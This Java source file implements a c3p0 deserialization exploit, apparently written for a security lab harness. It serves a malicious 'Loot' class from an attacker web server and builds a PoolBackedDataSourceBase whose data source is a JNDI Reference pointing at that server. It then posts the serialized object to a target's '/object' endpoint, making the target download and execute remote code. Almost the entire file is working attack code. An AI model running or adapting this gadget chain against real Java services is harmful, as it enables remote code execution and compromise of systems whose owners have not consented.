import com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase;
import java.io.PrintWriter;
import java.util.Map;
import java.util.logging.Logger;
import javax.naming.NamingException;
import javax.naming.Reference;
import javax.naming.Referenceable;
import javax.sql.ConnectionPoolDataSource;
import javax.sql.PooledConnection;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    Attacker.serve(Map.of("/Loot.class", Attacker.classBytes(Loot.class)));
    PoolBackedDataSourceBase pool = new PoolBackedDataSourceBase(false);
    Attacker.set(pool, "connectionPoolDataSource", new Source());
    Attacker.post("/object", Attacker.serialized(pool));
    Attacker.done();
  }

  /** Is written as a reference, since it is no serializable object. */
  static final class Source implements ConnectionPoolDataSource, Referenceable {
    @Override
    public Reference getReference() throws NamingException {
      return new Reference("Loot", "Loot", Attacker.WEB + "/");
    }

    @Override
    public PrintWriter getLogWriter() {
      return null;
    }

    @Override
    public void setLogWriter(PrintWriter out) {}

    @Override
    public void setLoginTimeout(int seconds) {}

    @Override
    public int getLoginTimeout() {
      return 0;
    }

    @Override
    public Logger getParentLogger() {
      return null;
    }

    @Override
    public PooledConnection getPooledConnection() {
      return null;
    }

    @Override
    public PooledConnection getPooledConnection(String user, String password) {
      return null;
    }
  }
}
